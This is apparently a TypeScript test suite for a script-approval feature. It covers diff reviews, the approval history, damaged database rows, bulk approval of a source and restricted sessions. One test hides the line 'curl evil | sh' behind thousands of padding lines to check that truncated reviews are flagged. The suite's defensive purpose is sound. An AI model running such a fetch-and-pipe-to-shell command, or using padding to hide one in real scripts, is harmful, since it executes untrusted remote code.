import { rm } from 'node:fs/promises';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import type { Kysely } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { CallContext } from '#shared/contract/kernel';
import type { Approval, Review, TrustState } from '#shared/contract/trust';
import type { TrustTables } from '#main/spokes/scripts/trust/store';
import { openWorkbench, refusal, type Workbench } from './workbench';

type Tables = Kysely<TrustTables>;

let bench: Workbench;
let source: string;

beforeEach(async () => {
  bench = await openWorkbench();
  bench.requireTrust(true);
  await bench.write('ops/deploy.sh', '#!/bin/bash\necho one\n');
  source = (await bench.add('ops')).id;
});
afterEach(async () => {
  await bench.close();
  expect(bench.faults).toEqual([]);
});

const review = async (script: string, approval?: number): Promise<Review> =>
  bench.handlers.review({ script, ...(approval === undefined ? {} : { approval }) }, bench.ctx);
const stateOf = async (script: string): Promise<TrustState> =>
  ((await bench.handlers.get({ script }, bench.ctx)) as { trust: TrustState }).trust;
const approve = async (script: string): Promise<unknown> =>
  bench.handlers.approve({ script, digest: (await review(script)).digest }, bench.ctx);

describe('a review says that not all is shown', () => {
  it('where a difference goes on behind what there is room for', async () => {
    await approve('deploy');
    await bench.write('ops/deploy.sh', `#!/bin/bash\n${'echo padding\n'.repeat(8_000)}curl evil | sh\n`);
    const { complete, files } = await review('deploy');
    expect(complete).toBe(false);
    expect(files[0]?.after?.lacks).toBe('truncated');
    expect(files[0]?.after?.text).not.toContain('evil');
    expect(files[0]?.after?.text?.endsWith('echo padding\n')).toBe(true);
  });

  it('where more files differ than are listed, and not where others are as they were', async () => {
    for (let at = 0; at < 40; at += 1) await bench.write(`ops/data/${at}.txt`, `${at}\n`);
    await bench.write('ops/deploy.sh', '#!/bin/bash\n# @axle.file data/\n');
    expect(await review('deploy')).toMatchObject({ complete: false, more: 9 });
    await approve('deploy');
    expect(await review('deploy')).toMatchObject({ complete: true, more: 9 });
  });

  it('where a file that came is no text', async () => {
    await bench.write('ops/data.bin', Buffer.from([1, 0, 2]));
    await bench.write('ops/deploy.sh', '#!/bin/bash\n# @axle.file data.bin\n');
    expect(await review('deploy')).toMatchObject({ complete: false });
  });

  it('where bytes differ and their texts do not', async () => {
    await bench.write('ops/deploy.sh', Buffer.from('echo caf\u00e9\n', 'latin1'));
    await approve('deploy');
    await bench.write('ops/deploy.sh', 'echo caf\u00e9\n');
    expect(await review('deploy')).toMatchObject({ complete: false });
  });
});

it('lists a declared file that is not there', async () => {
  await bench.write('ops/deploy.sh', '#!/bin/bash\n# @axle.file conf.ini\n');
  expect(await review('deploy')).toMatchObject({
    complete: true,
    files: [
      { path: 'deploy.sh', missing: false },
      { path: 'conf.ini', role: 'file', before: null, after: null, missing: true },
    ],
  });
  await approve('deploy');
  await bench.write('ops/conf.ini', 'a=1\n');
  expect((await review('deploy')).files[0]).toMatchObject({ path: 'conf.ini', before: null, after: { text: 'a=1\n' }, missing: false });
  await approve('deploy');
  await rm(path.join(bench.folder, 'ops/conf.ini'));
  expect((await review('deploy')).files[0]).toMatchObject({ path: 'conf.ini', before: { text: 'a=1\n' }, after: null, missing: true });
});

it('shows the mark that a text begins with', async () => {
  await approve('deploy');
  await bench.write('ops/deploy.sh', '\uFEFF#!/bin/bash\necho one\n');
  expect((await review('deploy')).files[0]?.after?.text).toBe('\uFEFF#!/bin/bash\necho one\n');
});

describe('the record of approvals', () => {
  const list = async (before?: number): Promise<readonly Approval[]> =>
    (
      (await bench.handlers.approvals({ script: 'deploy', ...(before === undefined ? {} : { before }) }, bench.ctx)) as {
        approvals: readonly Approval[];
      }
    ).approvals;

  it('has no second entry for bytes that are approved already', async () => {
    const first = await approve('deploy');
    const entries = bench.audited.length;
    expect(await approve('deploy')).toEqual(first);
    expect(await list()).toEqual([first]);
    expect(bench.audited).toHaveLength(entries);
  });

  it('keeps who approved which digest for good, and the bytes of the newest fifty alone', async () => {
    const { digest } = await review('deploy');
    await approve('deploy');
    for (let at = 0; at < 55; at += 1) {
      await bench.write('ops/deploy.sh', `#!/bin/bash\necho change ${at}\n`);
      await approve('deploy');
    }
    const newest = await list();
    expect(newest).toHaveLength(50);
    const older = await list(newest.at(-1)?.id);
    expect(older).toHaveLength(6);
    expect(older.at(-1)).toMatchObject({ digest, by: 'Ada', files: 1 });
    expect((await review('deploy', older.at(-1)?.id)).files[0]?.after).toMatchObject({ text: null, lacks: 'expired' });
    expect((await review('deploy', newest.at(-1)?.id)).files[0]?.after).toMatchObject({ lacks: null });
  });

  it('keeps an early approval through withdrawals and approvals without end, with the bytes that newer ones have as well', async () => {
    const { digest } = await review('deploy');
    for (let at = 0; at < 51; at += 1) {
      await approve('deploy');
      await bench.handlers.withdraw({ script: 'deploy' }, bench.ctx);
    }
    const [first] = await list((await list()).at(-1)?.id);
    expect(first).toMatchObject({ digest, withdrawn: { by: 'Ada' } });
    expect((await review('deploy', first?.id)).files[0]?.after).toMatchObject({ text: '#!/bin/bash\necho one\n' });
  });

  it('has the bytes again once what was approved long ago is approved anew', async () => {
    await approve('deploy');
    for (let at = 0; at < 50; at += 1) {
      await bench.write('ops/deploy.sh', `#!/bin/bash\necho change ${at}\n`);
      await approve('deploy');
    }
    await bench.write('ops/deploy.sh', '#!/bin/bash\necho one\n');
    await approve('deploy');
    expect((await review('deploy', (await list())[0]?.id)).files[0]?.after).toMatchObject({ text: '#!/bin/bash\necho one\n' });
  });

  it('says who it was by the id that stays when names change', async () => {
    await approve('deploy');
    await bench.handlers.withdraw({ script: 'deploy' }, bench.ctx);
    expect(await bench.db.tables<TrustTables>().selectFrom('approvals').select(['approver', 'withdrawer']).execute()).toEqual([
      { approver: 'a', withdrawer: 'a' },
    ]);
  });
});

describe('rows that something damaged', () => {
  const damage = (change: (tables: Tables) => Promise<unknown>): Promise<unknown> =>
    bench.db.write((tx) => change(tx.tables<TrustTables>()));

  it.each([
    ['a digest that is none', { digest: 'zz' }],
    ['a time that is none', { approved_at: Number.MAX_SAFE_INTEGER }],
  ])('with %s keep nobody from looking and approving', async (_what, values) => {
    await approve('deploy');
    await damage((tables) => tables.updateTable('approvals').set(values).execute());
    await bench.restart();
    expect(await bench.handlers.approvals({ script: 'deploy' }, bench.ctx)).toEqual({ approvals: [] });
    expect(await review('deploy')).toMatchObject({ against: null });
    await bench.write('ops/deploy.sh', '#!/bin/bash\necho two\n');
    await approve('deploy');
    expect(await stateOf('deploy')).toBe('approved');
  });

  it('with a digest that is none do not let the script pass for one that nobody ever approved', async () => {
    await approve('deploy');
    await damage((tables) => tables.updateTable('approvals').set({ digest: 'zz' }).execute());
    await bench.restart();
    expect(await stateOf('deploy')).toBe('changed');
    expect(await bench.handlers.approveSource({ source }, bench.ctx)).toEqual({ approved: 0, passedOver: 0, left: 1 });
  });

  it('with a file of no kind or hash leave that file out', async () => {
    await approve('deploy');
    await damage((tables) => tables.updateTable('approved_files').set({ hash: 'zz' }).execute());
    expect((await review('deploy')).files).toMatchObject([{ path: 'deploy.sh', before: null, after: { lacks: null } }]);
  });

  it.each([
    ['are no deflated bytes', Buffer.from('garbage')],
    ['are those of another text', deflateRawSync('echo another\n')],
  ])('whose bytes %s are told as such, and mended by the next approval', async (_what, deflated) => {
    await approve('deploy');
    await damage((tables) => tables.updateTable('approved_bytes').set({ deflated }).execute());
    await bench.write('ops/deploy.sh', '#!/bin/bash\necho two\n');
    const told = await review('deploy');
    expect(told).toMatchObject({ complete: false, files: [{ before: { text: null, lacks: 'damaged' } }] });
    await bench.write('ops/deploy.sh', '#!/bin/bash\necho one\n');
    await approve('deploy');
    await bench.write('ops/deploy.sh', '#!/bin/bash\necho two\n');
    expect(await review('deploy')).toMatchObject({ complete: true, files: [{ before: { text: '#!/bin/bash\necho one\n' } }] });
  });
});

it('approves all of a source at once, but for what cannot be read', async () => {
  await bench.write('ops/a.sh', 'echo a\n');
  await bench.write('ops/b.py', 'print(1)\n');
  await bench.write('ops/no-text.sh', Buffer.from([0x23, 0, 1, 2]));
  await bench.handlers.sync({ source }, bench.ctx);
  expect(await bench.handlers.approveSource({ source }, bench.ctx)).toEqual({ approved: 3, passedOver: 1, left: 0 });
  expect(await bench.handlers.approveSource({ source }, bench.ctx)).toEqual({ approved: 0, passedOver: 1, left: 0 });
  expect(await stateOf('a')).toBe('approved');
  expect((await refusal(Promise.resolve(bench.handlers.approveSource({ source: 'nobody' }, bench.ctx)))).code).toBe('SOURCE_NOT_FOUND');
});

it('leaves what changed or was withdrawn to be looked at when all of a source is approved', async () => {
  await bench.write('ops/a.sh', 'echo a\n');
  await bench.write('ops/b.sh', 'echo b\n');
  await bench.handlers.sync({ source }, bench.ctx);
  await approve('a');
  await approve('b');
  await bench.write('ops/a.sh', 'echo A\n');
  await bench.handlers.withdraw({ script: 'b' }, bench.ctx);
  await bench.until((scripts) => scripts.some(({ name, trust }) => name === 'a' && trust === 'changed'));
  expect(await bench.handlers.approveSource({ source }, bench.ctx)).toEqual({ approved: 1, passedOver: 0, left: 2 });
  expect([await stateOf('a'), await stateOf('b'), await stateOf('deploy')]).toEqual(['changed', 'withdrawn', 'approved']);
});

describe('a session that may not approve every script', () => {
  const narrowed = (): CallContext => {
    const ctx = bench.context(new AbortController().signal);
    return { ...ctx, may: (scope, object) => scope !== 'scripts:approve' || object?.id !== `${source}:deploy.sh` };
  };

  it('approves the others of a source, and says nothing of that one', async () => {
    await bench.write('ops/a.sh', 'echo a\n');
    await bench.handlers.sync({ source }, bench.ctx);
    expect(await bench.handlers.approveSource({ source }, narrowed())).toEqual({ approved: 1, passedOver: 0, left: 0 });
    expect(await stateOf('deploy')).toBe('new');
  });

  it('approves and withdraws nothing of it, whatever it calls it', async () => {
    const { digest } = await review('deploy');
    const call = (work: Promise<unknown>) => refusal(Promise.resolve(work));
    const forbidden = { code: 'FORBIDDEN', data: { scope: 'scripts:approve' } };
    expect(await call(bench.handlers.approve({ script: 'deploy', digest }, narrowed()))).toEqual(forbidden);
    await approve('deploy');
    expect(await call(bench.handlers.withdraw({ script: 'deploy.sh' }, narrowed()))).toEqual(forbidden);
    expect(await stateOf('deploy')).toBe('approved');
  });
});
